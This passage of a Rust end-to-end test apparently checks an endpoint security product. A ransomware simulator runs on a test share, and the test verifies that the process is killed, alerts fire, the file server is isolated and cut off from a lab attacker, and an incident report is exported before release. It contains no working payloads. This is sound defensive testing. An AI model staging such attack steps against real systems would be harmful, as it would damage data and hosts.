            "the alert carries the process ancestry up to the foothold shell",
            tree.len() >= 2 && tree.iter().any(|p| p["pid"].as_u64() == Some(shell_pid)),
            format!(
                "{} node(s), foothold shell pid {shell_pid} not among them",
                tree.len()
            ),
        );
    }

    // Step 3: ransomware.
    println!("\n==> Step 3: the attacker encrypts the share (vigie-ransim on a test directory)");
    let share_addr = format!("{FILESERVER}:{SHARE_PORT}");
    lab::echo_server(&lab.fileserver, &share_addr)?;
    let mut conn = lab.attacker.connect(&share_addr, Duration::from_secs(3))?;
    o.check(
        "the attacker holds a live TCP connection to the file server",
        lab::echo(&mut conn, Duration::from_secs(3)),
        "no echo",
    );
    o.check(
        "the workstation reaches the file server's share",
        lab.workstation.echo_ok(&share_addr, Duration::from_secs(3)),
        "no echo",
    );
    let seen = alert_ids(&api)?;
    // Watch the API while the simulator runs: first critical alert, and
    // isolation as the manager reports it.
    let watch = {
        let api = api.clone();
        let fs_id = fs_id.clone();
        let t_start = Instant::now();
        std::thread::spawn(move || -> Result<(Option<Duration>, Option<Duration>)> {
            let (mut alert, mut iso) = (None, None);
            while t_start.elapsed() < Duration::from_secs(30) && (alert.is_none() || iso.is_none())
            {
                if alert.is_none()
                    && wait_alert(&api, &fs_id, "", &seen, t_start, Duration::ZERO)?.is_some()
                {
                    alert = Some(t_start.elapsed());
                }
                if iso.is_none() && api.host(&fs_id)?["isolated"] == json!(true) {
                    iso = Some(t_start.elapsed());
                }
                pause(Duration::from_millis(50))?;
            }
            Ok((alert, iso))
        })
    };
    let t_enc = Instant::now();
    let (out, rc) = sh.run(
        &format!(
            "{} --dir {} --rate {}",
            opts.ransim.display(),
            share.display(),
            opts.rate
        ),
        Duration::from_secs(60),
    )?;
    let t_kill = t_enc.elapsed();
    let touched = crate::share::touched(&files);
    let (alert, iso) = watch
        .join()
        .map_err(|_| anyhow::anyhow!("watcher panicked"))??;
    // 137: the shell's status for a child killed by SIGKILL.
    let killed = rc == 128 + libc::SIGKILL;
    println!(
        "  simulator exit status {rc}{} after {}; {touched} of {} files touched",
        if killed { " (killed)" } else { "" },
        secs(t_kill),
        files.len(),
    );
    if !out.trim().is_empty() {
        println!("  {}", out.trim());
    }
    o.check(
        "the agent killed the simulator",
        killed,
        format!("exit status {rc}"),
    );
    o.row(
        "3 ransomware",
        "encryption start → process killed",
        if killed {
            secs(t_kill)
        } else {
            "not killed".into()
        },
        "≤ 1 s",
        Some(killed && t_kill <= KILL_TARGET),
    );
    o.row(
        "3 ransomware",
        "files touched before the kill",
        touched.to_string(),
        "≤ 50",
        Some(touched <= FILES_TARGET),
    );
    o.alert_row(
        "3 ransomware",
        "encryption start → critical alert in the API",
        alert,
    );
    o.row(
        "3 ransomware",
        "encryption start → isolation confirmed in the API",
        iso.map_or("not isolated".into(), secs),
        "",
        None,
    );
    o.check(
        "the manager shows the file server isolated",
        iso.is_some(),
        "never",
    );
    let cut = !lab::echo(&mut conn, Duration::from_secs(3));
    o.check("the attacker's connection is cut", cut, "still echoing");
    let refused = lab
        .attacker
        .connect(&share_addr, Duration::from_secs(3))
        .is_err();
    o.check(
        "a new connection from the attacker fails",
        refused,
        "it connected",
    );
    o.check(
        "the workstation no longer reaches the isolated file server",
        !lab.workstation.echo_ok(&share_addr, Duration::from_secs(2)),
        "it still does",
    );
    let host = api.host(&fs_id)?;
    o.check(
        "the file server's agent is still connected to the manager",
        host["online"] == json!(true) && host["isolated"] == json!(true),
        format!("online {}, isolated {}", host["online"], host["isolated"]),
    );

    // Step 4: the admin.
    println!(
        "\n==> Step 4: the admin investigates in the manager, exports the report, releases the host"
    );
    let incidents: Vec<Value> = api.get("/api/v1/incidents")?["incidents"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|i| i["host_id"] == json!(fs_id))
        .collect();
    o.check(
        "one incident for the file server",
        incidents.len() == 1,
        format!("{} incidents", incidents.len()),
    );
    if let Some(inc) = incidents.first() {
        let inc_id = inc["id"].as_str().unwrap_or_default().to_string();
        println!(
            "  incident {inc_id}: {} ({} alerts)",
            inc["title"].as_str().unwrap_or_default(),
            inc["alert_count"]
        );
        let mut timeline: Vec<Value> = api
            .alerts(Some(&fs_id))?
            .into_iter()
            .filter(|a| a["incident_id"] == json!(inc_id))
            .collect();
        timeline.sort_by_key(|a| a["time"].as_i64().unwrap_or(0));
        let first = timeline
            .first()
            .and_then(|a| a["time"].as_i64())
            .unwrap_or(0);
        println!("  timeline:");
        for a in &timeline {
            println!(
                "    +{:>7.2} s  {:<13} {}",
                (a["time"].as_i64().unwrap_or(0) - first) as f64 / 1000.0,
                a["level"].as_str().unwrap_or_default(),
                a["rule_name"].as_str().unwrap_or_default()
            );
        }
        let names: Vec<&str> = timeline
            .iter()
            .filter_map(|a| a["rule_name"].as_str())
            .collect();
        o.check(
            "the timeline holds the foothold and the ransomware alerts",
            names.iter().any(|n| n.contains("Discovery Burst"))
                && names.iter().any(|n| n.contains("Download Piped"))
                && timeline.iter().any(|a| a["level"] == "critical"),
            format!("{names:?}"),
        );
        let (code, html) =
            api.request("GET", &format!("/api/v1/incidents/{inc_id}/report"), None)?;
        let path = logs.join("incident-report.html");
        std::fs::write(&path, &html)?;
        if opts.logs.is_some() {
            println!("  report saved: {}", path.display());
        }
        o.check(
            "the incident report (HTML) has the timeline and the CNIL section",
            code == 200
                && html.contains("CNIL")
                && html.contains("Discovery Burst")
                && html.contains("vigie-ransim"),
            format!("HTTP {code}, {} bytes", html.len()),
        );
    }
    let (code, res) = api.post(
        &format!("/api/v1/hosts/{fs_id}/release"),
        &json!({"reason": "seed incident: simulator killed, persistence removed", "wait_seconds": 30}),
    )?;
    o.check(
        "the admin releases the file server through the API",
        code == 200,
        format!("HTTP {code}: {res}"),
    );
    let t0 = Instant::now();
    while api.host(&fs_id)?["isolated"] == json!(true) && t0.elapsed() < Duration::from_secs(15) {
        pause(Duration::from_millis(100))?;
    }
    let mut back = false;
    while !back && t0.elapsed() < Duration::from_secs(15) {
        back = lab.workstation.echo_ok(&share_addr, Duration::from_secs(2));
        if !back {
            pause(Duration::from_millis(200))?;
        }
    }
    o.check(
        "after the release the workstation reaches the file server again",
        back,
        "still blocked",
    );
    o.check(
        "the audit log records the release",
        audit_has(&api, "release", &fs_id)?,
        "no release entry",
    );
    let ws_alerts = api
        .alerts(Some(&ws_id))?
        .iter()
        .filter(|a| a["level"] != "informational")
        .count();
    o.row(
        "all",
        "alerts on the workstation (low and above)",
        ws_alerts.to_string(),
        "0",
        Some(ws_alerts == 0),
    );
    drop(sh);
    drop(procs);
    Ok(())
}
